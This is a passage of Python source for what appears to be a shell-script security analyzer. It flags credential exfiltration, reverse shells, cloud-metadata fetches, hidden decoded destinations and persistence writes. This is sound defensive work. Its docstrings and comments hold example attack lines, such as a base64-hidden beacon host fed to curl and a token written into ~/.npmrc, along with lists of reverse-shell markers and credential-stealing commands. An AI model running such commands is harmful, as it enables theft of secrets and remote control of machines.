        host = H.host_of(url)
        if not host or host in ("localhost",) or host.startswith("127.") or host.endswith((".local", ".internal", ".lan", ".localhost")):
            return
        self.emit(K.CRED_EXFIL, cmd, f"Credential files copied into a repository are pushed to {host}", Severity.CRITICAL, url=url)

    def vars_text(self, node) -> str:
        return " ".join(self.vars.get(_var_name(n), "") for n in _walk(node) if n.type in ("simple_expansion", "expansion"))

    def fetch(self, cmd, prog: str, vals: list[str]) -> None:
        url = next((v for v in vals if "://" in v), "")
        out = ""
        for i, v in enumerate(vals):
            nxt = vals[i + 1] if i + 1 < len(vals) else ""
            short = v.startswith("-") and not v.startswith("--") and len(v) > 1
            if v in ("-o", "--output", "--output-document") or (prog == "wget" and short and v.endswith("O") and v != "-O-") \
                    or (short and v.endswith("o") and prog == "curl"):  # wget -qO FILE: the options run together
                out = nxt
            elif v.startswith("--output-document=") or v.startswith("--output="):
                out = v.split("=", 1)[1]
            elif prog == "curl" and (v == "--remote-name" or (short and v.endswith("O"))) and url:
                out = posixpath.basename(url.split("?")[0])
        if prog == "wget" and not out and url and "-O-" not in vals and "-qO-" not in vals:
            out = posixpath.basename(url.split("?")[0])
        parent = cmd.parent
        if parent is not None and parent.type == "redirected_statement":
            for r in parent.children:
                if r.type == "file_redirect" and r.text.decode("utf-8", "replace").lstrip().startswith(">"):
                    dest = r.child_by_field_name("destination")
                    if dest is not None:
                        out = self.value(dest)
        if out and out not in ("-", "/dev/null", "/dev/stdout"):
            self.downloads[_key(out)] = (url, cmd)
        if c.CLOUD_METADATA_HOST.test(url):
            self.emit(K.CLOUD_METADATA, cmd, "Fetches the cloud instance-metadata endpoint (instance credentials)", Severity.HIGH)
        for i, v in enumerate(vals):
            if prog == "curl" and (v in ("-K", "--config") and i + 1 < len(vals) or v.startswith("--config=")):
                cfg = vals[i + 1] if not v.startswith("--config=") else v.split("=", 1)[1]
                self.curl_config(cmd, cfg)
        cred_vars = [a for a in _walk(cmd) if a.type in ("simple_expansion", "expansion") and "credential" in self.var_flags.get(_var_name(a), set())]
        if cred_vars or any("credential" in self.substitution_flags(a) for a in cmd.children if a.type in ("string", "command_substitution", "concatenation")):

            src_text = cmd.text.decode("utf-8", "replace") + " " + " ".join(self.vars.get(_var_name(x), "") for x in cred_vars)
            if not credential_command_goes_home(src_text, url):
                header_only = _credential_in_headers_only(self, cmd)
                # a token in an auth header is how APIs are called, except to a raw IP, a paste host, plain
                # http, or a host that borrows a well-known brand's name (a registry's look-alike)
                risky = c.host_risk(url) in ("ip", "paste") or url.startswith("http://") or bool(H.look_alike_brand(H.host_of(url)))
                sev = Severity.MEDIUM if header_only and not risky else Severity.CRITICAL
                self.emit(K.CRED_EXFIL, cmd, f"{prog} sends a credential read by the script (credential helper, token command or file)"
                          + (" in an auth header" if header_only else ""), sev, url=url)
        for i, v in enumerate(vals):
            data = ""
            if v in DATA_FLAGS and i + 1 < len(vals):
                data = vals[i + 1]
            elif "=" in v and v.split("=", 1)[0] in DATA_FLAGS:
                data = v.split("=", 1)[1]
            if not data:
                continue
            flag = v.split("=", 1)[0]
            path = data.split("@", 1)[1] if "@" in data and (data.startswith("@") or "=@" in data) else (data if flag in ("-T", "--upload-file", "--post-file", "--body-file") else "")
            if path and (c.is_credential_path(path) or _key(path) in self.cred_files):
                self.emit(K.CRED_EXFIL, cmd, f"{prog} uploads a credential file ({path})", Severity.CRITICAL, url=url)
            elif c.is_credential_path(data.split()[-1] if data.split() else "") or _secret_ref(data, self):
                names = _secret_names(data, self)
                if names and url and all(H.credential_goes_home(n, url) for n in names):
                    self.emit(K.CRED_EXFIL, cmd, f"{prog} sends a vendor's key to that vendor's own service", Severity.LOW, Confidence.LOW, url=url)
                    continue
                if names and not url and _token_grant_to_own_service(data, vals, names):
                    self.emit(K.CRED_EXFIL, cmd, f"{prog} exchanges a client secret for a token at the service its own settings name",
                              Severity.LOW, Confidence.LOW, url=url)
                    continue
                self.emit(K.CRED_EXFIL, cmd, f"{prog} sends a secret or credential in its request body", Severity.HIGH, url=url)
            elif any(d in data for d in ("$(env)", "$(printenv)", "`env`", "`printenv`")):
                self.emit(K.CRED_EXFIL, cmd, f"{prog} sends the whole environment", Severity.HIGH, url=url)
        if url and _secret_ref(url, self) and prog in ("curl", "wget") and not all(H.credential_goes_home(n, url) for n in _secret_names(url, self) or ["?"]):
            self.emit(K.CRED_EXFIL, cmd, f"{prog} puts a secret variable in the request URL", Severity.MEDIUM, Confidence.MEDIUM, url=url)
        self.hidden_destination(cmd, prog, vals)

    def hidden_destination(self, cmd, prog: str, vals: list[str]) -> None:
        """`beacon="https://$(printf 'ZXZpbC5leGFtcGxl' | base64 -d)/t"`, then `curl --data-binary @- "$beacon"`: data sent to
        an address the script decodes at run time. A destination kept out of the reader's sight is the mark of a
        sender that must not be noticed; what it sends (a hook's event, a file) leaves for a host nobody reviewed."""
        if not any(v in DATA_FLAGS or v.split("=", 1)[0] in DATA_FLAGS for v in vals) and not _sends_stdin(prog, vals):
            return
        for a in cmd.children:
            if a.type in ("string", "concatenation", "simple_expansion", "expansion", "word", "command_substitution") \
                    and "://" in self.value(a) and "decoded" in self.substitution_flags(a):
                self.emit(K.HOST_DATA_EXFIL, cmd, f"{prog} sends data to an address the script decodes at run time (a hidden destination)",
                          Severity.HIGH, Confidence.MEDIUM)
                return

    def curl_config(self, cmd, cfg: str) -> None:
        """`curl -K file`: the config (often a heredoc the script wrote) holds the URL and the upload."""
        text = self.heredocs.get(_key(cfg), "")
        if c.is_credential_path(cfg):
            self.emit(K.CRED_EXFIL, cmd, f"curl reads its request from a credential file ({cfg})", Severity.CRITICAL)
            return
        if not text:
            return
        url = _first_url(text)
        for line in text.splitlines()[:200]:
            key, _, val = line.strip().partition("=")
            key = key.strip().lstrip("-").lower()
            val = val.strip().strip("'\"")
            if key in ("data", "data-binary", "data-raw", "data-urlencode", "form", "upload-file", "json", "t", "d", "f"):
                path = val.split("@", 1)[1] if "@" in val else (val if key in ("upload-file", "t") else "")
                path = path.replace("$HOME", "~").replace("${HOME}", "~")
                if path and c.is_credential_path(path):
                    self.emit(K.CRED_EXFIL, cmd, f"curl -K config uploads a credential file ({path})", Severity.CRITICAL, url=url)
                    return

    def redirected(self, n) -> None:
        body = n.child_by_field_name("body")
        redirects = [r for r in n.children if r.type == "file_redirect"]
        prog, _, vals = self.command_parts(body) if body is not None and body.type == "command" else ("", [], [])
        if body is not None and body.type == "command" and (_is_credential_command(prog, vals) or _archives_credentials(prog, vals) or (
                prog in ("cat", "base64", "base32", "xxd", "head", "tail", "gzip", "tar", "zip") and any(c.is_credential_path(v) for v in vals))):
            for r in redirects:
                if r.text.decode("utf-8", "replace").lstrip().startswith(">"):
                    dn = r.child_by_field_name("destination")
                    if dn is not None:
                        self.cred_files.add(_key(self.value(dn)))
        heredoc = next((r for r in n.children if r.type == "heredoc_redirect"), None)
        if heredoc is not None:
            body_text = "".join(ch.text.decode("utf-8", "replace") for ch in _walk(heredoc) if ch.type == "heredoc_body")
            for r in redirects:
                if r.text.decode("utf-8", "replace").lstrip().startswith(">"):
                    dn = r.child_by_field_name("destination")
                    if dn is not None and body_text:
                        self.heredocs[_key(self.value(dn))] = body_text[:20000]
                        self.written_scripts.append((self.value(dn), n, body_text[:20000]))
            if prog == "tee" and body_text and vals:
                dest = next((v for v in vals if not v.startswith("-")), "")
                if dest:
                    self.heredocs[_key(dest)] = body_text[:20000]
                    self.written_scripts.append((dest, n, body_text[:20000]))
        for r in redirects:
            rt = r.text.decode("utf-8", "replace")
            dest_node = r.child_by_field_name("destination")
            dest = self.value(dest_node) if dest_node is not None else ""
            if prog in ("echo", "printf") and _key(dest) in _LOGIN_FILES and rt.lstrip().startswith(">") and body is not None:
                # `echo "//HOST/:_authToken=$(gh auth token)" >> ~/.npmrc`: the credential becomes HOST's login
                said = " ".join(self.value(a) for a in self.command_parts(body)[1])
                url = next((u for u in (_registry_url(w.split("=", 1)[0]) for w in said.split()) if u), "") or _first_url(said) or (
                    "https://" + said.split("machine", 1)[1].split()[0] if " machine " in f" {said} " and len(said.split("machine", 1)[1].split()) else "")
                if url and "credential" in self.substitution_flags(body):
                    src = body.text.decode("utf-8", "replace") + " " + self.vars_text(body)
                    if not credential_command_goes_home(src, url):
                        self.emit(K.CRED_EXFIL, n, f"Writes a credential the script read into {_key(dest)} as the login for "
                                  f"{H.host_of(url)}: the tool sends it there", Severity.CRITICAL, url=url)
            if "/dev/tcp/" in rt or "/dev/udp/" in rt:
                if prog in SHELLS or prog in ("exec",) or any(x in n.text.decode("utf-8", "replace") for x in ("sh -i", "bash -i", "0>&1", "<&")):
                    self.emit(K.REVERSE_SHELL, n, "Shell input/output redirected to a /dev/tcp socket", Severity.CRITICAL)
                elif prog in ("cat",) and any(c.is_credential_path(v) for v in vals):
                    self.emit(K.CRED_EXFIL, n, "Credential file written to a /dev/tcp socket", Severity.CRITICAL)
            if rt.lstrip().startswith("<") and prog in ("nc", "ncat", "netcat", "socat", "telnet", "curl") and c.is_credential_path(dest):
                self.emit(K.CRED_EXFIL, n, f"Credential file fed to {prog}", Severity.CRITICAL)
            if rt.lstrip().startswith((">>", ">")) and c.PERSISTENCE_PATH.test(dest):
                writer = body
                if body is not None and body.type == "list" and body.children and body.children[-1].type == "command":
                    writer = body.children[-1]  # `grep -q x "$rc" || printf ... >> "$rc"`: the redirect is the last command's
                w_prog, _, w_vals = self.command_parts(writer) if writer is not None and writer.type == "command" else ("", [], [])
                if w_prog in ("echo", "printf"):
                    # `printf '%s\n' "$line" >> "$rc"`: the words written are a command every later shell (or the
                    # scheduler) runs; each is read as the script it installs (installed_scripts)
                    for said in w_vals[:10]:
                        if len(said) >= 8 and not said.startswith("-"):
                            self.written_scripts.append((dest, n, said[:20000]))
                strong = any(k in dest.lower() for k in ("authorized_keys", "cron", "systemd", "launchagents", "launchdaemons", "ld.so.preload", "rc.local", "init.d"))
                self.emit(K.PERSISTENCE, n, f"Writes to a start-up or login location ({dest})",
                          Severity.HIGH if strong else Severity.MEDIUM, Confidence.MEDIUM)


MAX_DEPTH = 2
MAX_REREAD = 40
_GIT_HOOKS = frozenset({"pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "pre-push", "post-checkout", "post-merge",
                        "pre-rebase", "post-rewrite", "pre-receive", "post-receive", "update", "pre-merge-commit", "pre-applypatch",
                        "post-applypatch", "applypatch-msg", "fsmonitor-watchman", "reference-transaction", "push-to-checkout"})
_CODE_STRING_KINDS = frozenset({K.REMOTE_EXEC, K.DECODE_EXEC, K.CRED_EXFIL, K.REVERSE_SHELL, K.HOST_DATA_EXFIL, K.PERSISTENCE,
                                K.DESTRUCTIVE, K.CLOUD_METADATA})
_LOOKUP_PROGRAMS = ("command", "which", "type", "whence")


def _program_lookup(flow: "ShellFlow", node) -> str:
    """`$(command -v bash)`, `$(which python3)`: the program a variable is set to (its path, read as the name)."""
    sub = node
    if sub.type == "string" and len([ch for ch in sub.children if ch.type != '"']) == 1:
        sub = next(ch for ch in sub.children if ch.type != '"')
    if sub.type != "command_substitution":
        return ""
    cmds = [ch for ch in sub.children if ch.type == "command"]
    if len(cmds) != 1:
        return ""
    name_node = cmds[0].child_by_field_name("name")
    prog = flow.value(name_node.children[0]) if name_node is not None and name_node.children else ""
    words = [flow.value(ch) for ch in cmds[0].children if ch.type in ("word", "string", "raw_string")]
    if prog not in _LOOKUP_PROGRAMS or not words:
        return ""
    rest = [w for w in words if not w.startswith("-")]
    if prog == "command" and not any(w in ("-v", "-V") for w in words) or len(rest) != 1:
        return ""
    return rest[0]


def _dumps_env(prog: str, vals: list[str]) -> bool:
    """env / printenv with no argument, export -p, declare -x: every exported variable with its value."""
    if prog in ("env", "printenv"):
        return not [v for v in vals if not v.startswith("-")]
    if prog == "export":
        return vals in (["-p"], [])
    if prog in ("declare", "typeset"):
        return bool(vals) and all(v.startswith("-") and "x" in v for v in vals)
    return False


def _lists_env_names(flow: "ShellFlow", node) -> bool:
    """`$(compgen -e)`, `$(compgen -v)`, `$(env | cut -d= -f1)`: the environment's variable names."""
    for n in _walk(node):
        if n.type == "command":
            prog, _, vals = flow.command_parts(n)
            if prog == "compgen" and any(v in ("-e", "-v", "-A") for v in vals) or _dumps_env(prog, vals):
                return True
    return False


def shell_shapes_fetching(flow: "ShellFlow") -> set[str]:
    """The script's own functions whose body fetches (`get() { curl -fsSL "$1"; }`): their output is a download."""
    from .shapes import fetching_functions

    return fetching_functions(flow)


def _var_name(node) -> str:
    for ch in node.children:
        if ch.type == "variable_name":
            return ch.text.decode("utf-8", "replace")
    return node.text.decode("utf-8", "replace").strip("${}")


def _stages(pipeline) -> list:
    """The stages of a pipeline. tree-sitter-bash reads `a | b | c || true` as `a | list(b | c || true)`:
    the list's first pipeline continues this one, so its stages are read in order here."""
    out = []
    for ch in pipeline.children:
        if ch.type in ("|", "|&"):
            continue
        if ch.type == "redirected_statement":  # `a | b 2>&1 | c` is read as `(a | b) 2>&1 | c`
            body = ch.child_by_field_name("body")
            if body is not None and body.type == "pipeline":
                out.extend(_stages(body))
                continue
        if ch.type == "list" and ch.children:
            head = ch.children[0]
            if head.type == "pipeline":
                out.extend(_stages(head))
                continue
            if head.type in ("command", "redirected_statement"):
                out.append(head)
                continue
        out.append(ch)
    return out


def _inner_command(node):
    if node.type == "command":
        return node
    if node.type == "redirected_statement":
        body = node.child_by_field_name("body")
        return body if body is not None and body.type == "command" else None
    return None


def _is_decoder(prog: str, vals: list[str]) -> bool:
    if prog == "base64" or prog == "base32":
        return any(v in ("-d", "--decode", "-D") or (v.startswith("-") and "d" in v and not v.startswith("--")) for v in vals)
    if prog == "xxd":
        return any(v.startswith("-r") or v == "-p" and "-r" in vals for v in vals)
    if prog == "openssl":
        return ("base64" in vals or "enc" in vals) and "-d" in vals
    if prog in ("uudecode", "zcat", "gunzip", "bunzip2", "unxz", "rev"):
        return True
    if prog in ("gzip", "bzip2", "xz"):
        return "-d" in vals or "--decompress" in vals
    if prog == "tr":
        return any("n-za-m" in v.lower() for v in vals)
    if prog == "printf":
        return any("\\x" in v for v in vals)
    return False


def _cloud_copy(prog: str, vals: list[str]) -> bool:
    """rclone copy/sync/move, aws s3 cp/sync/mv, gsutil cp/rsync, azcopy copy/sync: a copy to remote storage."""
    words = [v for v in vals if not v.startswith("-")]
    if prog == "rclone":
        return len(words) >= 3 and words[0] in ("copy", "sync", "move", "copyto", "moveto", "bisync")
    if prog == "aws":
        return len(words) >= 4 and words[0] == "s3" and words[1] in ("cp", "sync", "mv")
    if prog == "gsutil":
        return len(words) >= 3 and words[0] in ("cp", "rsync", "mv")
    if prog == "azcopy":
        return len(words) >= 3 and words[0] in ("copy", "cp", "sync")
    return False


def _credential_in_headers_only(flow: "ShellFlow", cmd) -> bool:
    """Every argument carrying a credential read by the script is a -H/--header value (authentication)."""
    args = [a for a in cmd.children if a.type not in ("command_name", "variable_assignment", "file_redirect", "comment")]
    found = False
    for i, a in enumerate(args):
        flags = flow.substitution_flags(a)
        if "credential" not in flags:
            continue
        found = True
        prev = args[i - 1].text.decode("utf-8", "replace") if i else ""
        own = a.text.decode("utf-8", "replace")
        if not (prev in ("-H", "--header", "-u", "--user") or own.startswith(("--header=", "-H"))):
            return False
        if prev not in ("-u", "--user"):
            name = flow.value(a).split("=", 1)[-1] if own.startswith("--header=") else flow.value(a)
            name = name[2:] if name.startswith("-H") else name
            if ":" not in name or not _AUTH_HEADER.test(name.split(":", 1)[0]):
                return False  # `-H "X-Viewer: $(token)"`: a header no server authenticates with carries it out
    return found


# Header names a service authenticates a request with (Authorization, X-API-Key, PRIVATE-TOKEN, Cookie, ...).
_AUTH_HEADER = c.rx(r"(?i)auth|token|key|secret|cookie|session|bearer|credential|passw|signature|jwt")


def _archives_credentials(prog: str, vals: list[str]) -> bool:
    """tar/zip/7z of a whole credential folder (`tar czf - ~/.aws ~/.kube`, `zip -r - .config/gcloud`)."""
    return prog in ("tar", "zip", "7z", "7za", "cpio") and any(_CRED_DIR.test(v) for v in vals if not v.startswith("-"))


_CRED_DIR = c.CRED_DIR  # credential folders themselves (`cp -R ~/.ssh`)


_PACKAGE_TOOLS = frozenset({"npm", "pnpm", "yarn", "bun", "npx", "pnpx", "bunx", "pip", "pip3", "uv", "uvx", "pipx", "poetry", "pdm"})
_INDEX_OPTIONS = frozenset({"--registry", "--index-url", "-i", "--extra-index-url", "--index", "--default-index", "--find-links"})


# A tool's login file: what is written there is sent to the host it names.
_LOGIN_FILES = frozenset({".npmrc", ".yarnrc", ".yarnrc.yml", ".pypirc", ".netrc", "_netrc", "pip.conf", "pip.ini", ".git-credentials"})


def _registry_url(key: str) -> str:
    """The registry a config key scopes to: `//npm.example.com/:_authToken` -> https://npm.example.com/."""
    k = key.strip().strip("'\"")
    if k.startswith("//") and "/" in k[2:]:
        return "https://" + k[2:].split("/", 1)[0] + "/"
    return _first_url(k)


_NOT_ARGS = frozenset({"command_name", "variable_assignment", "file_redirect", "herestring_redirect", "comment"})
# Commands that print what they read: given a credential file, their output is the credential.
_CRED_READERS = frozenset({"cat", "base64", "base32", "xxd", "od", "gzip", "head", "tail", "tar", "openssl", "awk", "gawk", "mawk",
                           "sed", "grep", "egrep", "rg", "jq", "yq", "cut", "strings", "tr", "sort"})


def _reads_credential(prog: str, vals: list[str]) -> bool:
    """A command whose output is a credential: a token command, an archive of a credential folder, or a
    reader (`cat`, `awk`, `jq`, ...) of a credential file."""
    return _is_credential_command(prog, vals) or _archives_credentials(prog, vals) or (
        prog in _CRED_READERS and any(c.is_credential_path(v) for v in vals))


def _is_credential_command(prog: str, vals: list[str]) -> bool:
    """git credential fill, gh auth token, security find-generic-password, cloud CLI tokens, ..."""
    if prog not in _CRED_PROGRAMS:
        return False

    return bool(_CRED_COMMAND.search(" ".join([prog] + vals[:6]).encode("utf-8", "surrogatepass")))


_CRED_PROGRAMS = T.names("shell", "credential_programs")


def _reads_stdin_program(prog: str, vals: list[str]) -> bool:
    if prog in SHELLS:
        positional = [v for v in vals if not v.startswith("-")]
        return not positional or "-s" in vals or positional[0] == "-"
    if prog in INTERPRETERS:
        # options count before the script (`python3 - --version 1.8`: `-` is the script, read from
        # stdin; what follows is the script's own arguments)
        opts = []
        for v in vals:
            if v == "-" or not v.startswith("-"):
                break
            opts.append(v)
        if any(v in ("-m", "-c", "-e", "-r", "-p", "-n", "--version", "-V", "-h", "--help", "-E") for v in opts):
            return False
        positional = [v for v in vals if not v.startswith("-") or v == "-"]
        return not positional or positional[0] == "-"
    return prog in ("eval", "source", ".", "iex", "invoke-expression")


def _sends_stdin(prog: str, vals: list[str]) -> bool:
    if prog in ("nc", "ncat", "netcat", "socat", "telnet", "ssh"):
        return True
    if prog == "openssl":
        return "s_client" in vals  # `openssl enc` / `openssl base64` transform the stream; s_client sends it
    return any(v.endswith("@-") or v in ("-T", "--upload-file") and "-" in vals or v == "@-" for v in vals)


def _secret_ref(text: str, flow: ShellFlow) -> bool:
    i = 0
    while True:
        i = text.find("$", i)
        if i < 0:
            return False
        j = i + 1
        if j < len(text) and text[j] == "{":
            j += 1
        k = j
        while k < len(text) and (text[k].isalnum() or text[k] == "_"):
            k += 1
        name = text[j:k]
        if name and c.is_secret_env_name(name) and name not in flow.vars:
            return True
        i = k if k > i else i + 1


# An OAuth token request: `grant_type=client_credentials&client_secret=$ACME_CLIENT_SECRET` posted to
# `$ACME_AUTH_URL/oauth/token`. The secret is exchanged where it was issued: the token endpoint of a
# host held in the user's own setting for the same service (its name's first word is every secret's).
_GRANT = rx(r"(?:^|[&\s])grant_type=(?:client_credentials|password|refresh_token|authorization_code)(?:&|\s|$)")
_TOKEN_URL = rx(r"^\$\{?([A-Za-z][A-Za-z0-9]*_[A-Za-z0-9_]*)\}?(?:/[\w.-]+){0,4}/token/?$")
_GENERIC_WORDS = frozenset({"API", "APP", "AUTH", "OAUTH", "OAUTH2", "CLIENT", "TOKEN", "SECRET", "BASE", "URL", "HOST", "SERVER",
                            "ENDPOINT", "SERVICE", "MY", "THE", "PROD", "DEV", "TEST", "REMOTE", "TARGET", "CALLBACK", "UPLOAD"})


def _token_grant_to_own_service(data: str, vals: list[str], names: list[str]) -> bool:
    """`vals`: the command's words, none of them a written-out URL (the destination is a setting)."""
    if _GRANT.search(data.encode("utf-8", "surrogatepass")) is None:
        return False
    dests = [m for m in (_TOKEN_URL.search(v.encode("utf-8", "surrogatepass")) for v in vals if v.startswith("$")) if m is not None]
    if len(dests) != 1:
        return False
    word = dests[0].group(1).decode().split("_", 1)[0].upper()
    return word not in _GENERIC_WORDS and all(n.split("_", 1)[0].upper() == word for n in names)


def _secret_names(text: str, flow: ShellFlow) -> list[str]:
    out = []
    i = 0
    while len(out) < 20:
        i = text.find("$", i)
        if i < 0:
            return out
        j = i + 1 + (1 if text[i + 1:i + 2] == "{" else 0)
        k = j
        while k < len(text) and (text[k].isalnum() or text[k] == "_"):
            k += 1
        name = text[j:k]
        if name and c.is_secret_env_name(name) and name not in flow.vars:
            out.append(name)
        i = max(k, i + 1)
    return out


def _first_url(text: str) -> str:
    urls = c.urls_in(text)
    return urls[0] if urls else ""


def _key(path: str) -> str:
    return posixpath.basename(path.strip().strip("'\"")).lower()


def _same_file(name: str, downloads: dict) -> bool:
    return bool(name) and _key(name) in downloads and ("/" in name or name.startswith(".") or _key(name) == name.lower())


def analyze_text(text: str, context: dict | None = None) -> list[c.Fact]:
    return ShellFlow(text, context).run()


def analyze(doc) -> list[c.Fact]:
    return analyze_text(doc.text, getattr(doc, "context", None) or {})


def analyze_parsed(doc) -> tuple[list[c.Fact], bool]:
    """analyze(doc), and whether tree-sitter-bash reported syntax errors in the tree it read
    (the caller's fallback asked by parsing the script a second time)."""
    flow = ShellFlow(doc.text, getattr(doc, "context", None) or {})
    return flow.run(), flow.parse_error
